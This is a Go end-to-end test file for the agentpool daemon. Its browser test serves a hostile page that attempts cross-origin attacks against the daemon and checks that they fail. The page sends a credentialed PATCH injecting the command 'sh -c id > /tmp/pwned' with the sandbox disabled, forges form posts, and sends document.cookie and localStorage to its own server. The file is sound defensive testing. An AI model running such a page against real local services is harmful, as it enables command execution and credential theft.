package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"

	"github.com/chromedp/chromedp"
)

// hostile is a server on another port of 127.0.0.1, as a confined agent
// may run one: it records every credential a browser sends it.
type hostile struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string // "header: value" of each Cookie and Authorization received, and reports
}

// hostilePage tries what a page on another port can do against the
// daemon at target: a credentialed fetch that would widen a provider, a
// simple cross-origin POST, form posts (logout, a probe), an <img> GET, and
// it reports its own cookies and storage back to its server.
const hostilePage = `<!doctype html><meta charset="utf-8"><title>hostile</title>
<iframe name="f1"></iframe><iframe name="f2"></iframe>
<form id="logout" method="POST" action="%[1]s/v1/logout" target="f1"></form>
<form id="probe" method="POST" action="%[1]s/v1/providers/escaped/probe" target="f2" enctype="text/plain"><input name='{"a":"' value='"}'></form>
<script>
const D = %[2]q;
const done = [];
const note = (k, v) => fetch('/report', {method: 'POST', body: k + ': ' + v});
done.push(fetch(D + '/v1/providers/escaped', {method: 'PATCH', credentials: 'include', headers: {'Content-Type': 'application/merge-patch+json'},
  body: JSON.stringify({extends: 'acp', command: ['sh', '-c', 'id > /tmp/pwned'], sandbox: {enabled: false}})}).then(r => 'patch ' + r.status, e => 'patch refused'));
done.push(fetch(D + '/v1/login-links', {method: 'POST', mode: 'no-cors', credentials: 'include'}).then(r => 'links ' + r.type, e => 'links refused'));
done.push(new Promise(res => { const i = new Image(); i.onload = i.onerror = () => res('img done'); i.src = D + '/v1/sessions'; }));
for (const id of ['logout', 'probe']) done.push(new Promise(res => { const f = document.querySelector('iframe[name=' + (id === 'logout' ? 'f1' : 'f2') + ']'); f.onload = () => res(id + ' posted'); setTimeout(() => res(id + ' sent'), 2000); document.getElementById(id).submit(); }));
Promise.all(done).then(async r => {
  await note('results', r.join(', '));
  await note('document.cookie', document.cookie);
  await note('localStorage', JSON.stringify(Object.assign({}, localStorage)));
  window.__done = r;
});
</script>`

func newHostile(t *testing.T, target string) *hostile {
	h := &hostile{}
	h.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.mu.Lock()
		for _, k := range []string{"Cookie", "Authorization"} {
			if v := r.Header.Get(k); v != "" {
				h.seen = append(h.seen, k+": "+v)
			}
		}
		h.mu.Unlock()
		if r.URL.Path == "/report" {
			b, _ := io.ReadAll(r.Body)
			h.mu.Lock()
			h.seen = append(h.seen, "report "+string(b))
			h.mu.Unlock()
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, hostilePage, target, target)
	}))
	t.Cleanup(h.Close)
	return h
}

// TestBrowserNoAmbientCredential is the attack of issue 22 in a real
// browser: Chromium logs in to the daemon, then visits a page served on
// another port of 127.0.0.1, which tries to change a provider, mint a
// login link, read the sessions and log the page out. Nothing the browser
// sends there may authorize anything: the hostile server sees no
// credential, the daemon changes nothing, and the daemon's page stays
// logged in. The login goes through `open --browser`'s private page.
func TestBrowserNoAmbientCredential(t *testing.T) {
	exe := findBrowser(t)
	bin := agentpoolBinary(t)
	home := t.TempDir()
	d := startDaemon(t, bin, home)
	d.stopAtCleanup()
	b := newBrowser(t, exe)

	// Log in by opening the page `open --browser` hands to xdg-open.
	rec := t.TempDir()
	cmd := exec.Command(bin, "open", "--browser")
	cmd.Env = append(os.Environ(), "AGENTPOOL_HOME="+home, "PATH="+fakeOpener(t, rec))
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("agentpool open --browser: %v\n%s", err, out)
	}
	waitFor(t, "the fake xdg-open", func() bool { _, err := os.Stat(filepath.Join(rec, "done")); return err == nil })
	argv, _ := os.ReadFile(filepath.Join(rec, "argv"))
	b.run("open the login page file", chromedp.Navigate("file://"+strings.TrimSpace(string(argv))))
	b.waitJS("the sessions page", `location.origin === `+jsString(d.client.BaseURL)+` && document.querySelector('h1') && document.querySelector('h1').textContent === 'Sessions'`)
	assertPageLoggedIn(t, b, d)

	// A new tab on the daemon's origin is logged in without a new link.
	tab2, closeTab2 := chromedp.NewContext(b.ctx)
	defer closeTab2()
	if err := chromedp.Do(tab2); err != nil {
		t.Fatalf("open a second tab: %v", err)
	}
	b2 := &browser{t: t, ctx: tab2, shots: b.shots, n: 50}
	b2.run("open the page in a new tab", chromedp.Navigate(d.client.BaseURL+"/"))
	b2.waitJS("the sessions page in the new tab", `document.querySelector('h1') && document.querySelector('h1').textContent === 'Sessions' && !document.getElementById('logout').hidden`)
	closeTab2()

	// The hostile page, on another port of the same host.
	h := newHostile(t, d.client.BaseURL)
	b.run("visit the hostile page", chromedp.Navigate(h.URL+"/"))
	b.waitJS("the attacks to finish", `window.__done`)
	b.shot("hostile-page")
	t.Logf("hostile page: %v", evalJS[[]string](b, `window.__done`))
	h.mu.Lock()
	seen := append([]string(nil), h.seen...)
	h.mu.Unlock()
	for _, s := range seen {
		if strings.HasPrefix(s, "Cookie:") || strings.HasPrefix(s, "Authorization:") ||
			(strings.HasPrefix(s, "report document.cookie: ") && s != "report document.cookie: ") ||
			(strings.HasPrefix(s, "report localStorage: ") && s != "report localStorage: {}") {
			t.Errorf("the hostile server got a credential: %s", s)
		}
	}

	// The daemon changed nothing.
	snap, err := d.client.Providers(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range snap.Providers {
		if p.ID == "escaped" {
			t.Errorf("the hostile page created provider %+v", p)
		}
	}
	if raw, err := os.ReadFile(filepath.Join(home, providersFile)); err == nil && strings.Contains(string(raw), "escaped") {
		t.Errorf("providers.json was changed by the hostile page:\n%s", raw)
	}

	// Whatever the hostile server captured, replayed with a forged Origin,
	// authorizes nothing.
	for _, s := range seen {
		k, v, _ := strings.Cut(s, ": ")
		if k != "Cookie" && k != "Authorization" {
			continue
		}
		req, _ := http.NewRequest("PATCH", d.client.BaseURL+"/v1/providers/escaped", strings.NewReader(`{"extends":"acp","command":["true"]}`))
		req.Header.Set(k, v)
		req.Header.Set("Origin", d.client.BaseURL)
		req.Header.Set("Content-Type", "application/merge-patch+json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("replaying %s with a forged Origin = %d; want 401", k, resp.StatusCode)
		}
	}

	// The daemon's page is still logged in after the forced logout.
	b.run("back to the daemon's page", chromedp.Navigate(d.client.BaseURL+"/"))
	b.waitJS("the sessions page, still logged in", `document.querySelector('h1') && document.querySelector('h1').textContent === 'Sessions' && !document.getElementById('logout').hidden`)
	pages, err := d.client.PageSessions(context.Background())
	if err != nil || len(pages) != 1 {
		list, _ := json.Marshal(pages)
		t.Errorf("page sessions after the attack = %s, %v; want the one login of this test", list, err)
	}
}

// TestBrowserReconnectsAfterRestart: the page's credential survives a
// daemon restart, and its event streams reconnect by themselves, the
// session's resuming after the last event it saw.
func TestBrowserReconnectsAfterRestart(t *testing.T) {
	exe := findBrowser(t)
	bin := agentpoolBinary(t)
	home := t.TempDir()
	repo := e2eRepoAt(t, filepath.Join(t.TempDir(), "repo"), map[string]string{"README.md": "# restart\n"})
	d := startDaemon(t, bin, home)
	stop := func(d *daemon) {
		_ = d.cmd.Process.Signal(syscall.SIGTERM)
		_ = d.cmd.Wait()
	}
	t.Cleanup(func() {
		stop(d)
		if t.Failed() {
			t.Logf("daemon output:\n%s", d.out)
		}
	})
	sess, err := d.client.CreateSession(context.Background(), createReq(repo, "demo"))
	if err != nil {
		t.Fatal(err)
	}
	b := newBrowser(t, exe)
	out, err := d.cli("open")
	if err != nil {
		t.Fatalf("open: %v\n%s", err, out)
	}
	b.run("log in", chromedp.Navigate(strings.TrimSpace(out)))
	b.waitJS("the sessions page", `document.querySelector('h1') && document.querySelector('h1').textContent === 'Sessions'`)
	b.run("open the session", chromedp.Navigate(d.client.BaseURL+"/#/s/"+sess.ID))
	b.waitJS("the session, live", `document.querySelector('.session h1') && document.getElementById('conn').classList.contains('live')`)

	addr := strings.TrimPrefix(d.client.BaseURL, "http://")
	stop(d)
	b.waitJS("the page to see the daemon gone", `document.getElementById('conn').classList.contains('down')`)
	d = startDaemon(t, bin, home, "AGENTPOOL_LISTEN="+addr)
	b.waitJS("the page live again", `document.getElementById('conn').classList.contains('live') && !document.querySelector('.login')`)
	if _, err := d.client.Prompt(context.Background(), sess.ID, "demo", "after the restart", false); err != nil {
		t.Fatal(err)
	}
	b.waitJS("the approval dialog, from the reconnected streams", `document.querySelector('dialog#approval').open`)
	b.run("approve", chromedp.KeyEvent("1"))
	b.waitJS("the turn in the session's stream", `document.querySelector('.stream').innerText.includes('after the restart') && document.querySelector('.stream').innerText.includes('Done: AGENTPOOL_DEMO.md')`)
	b.shot("reconnected-after-restart")
}
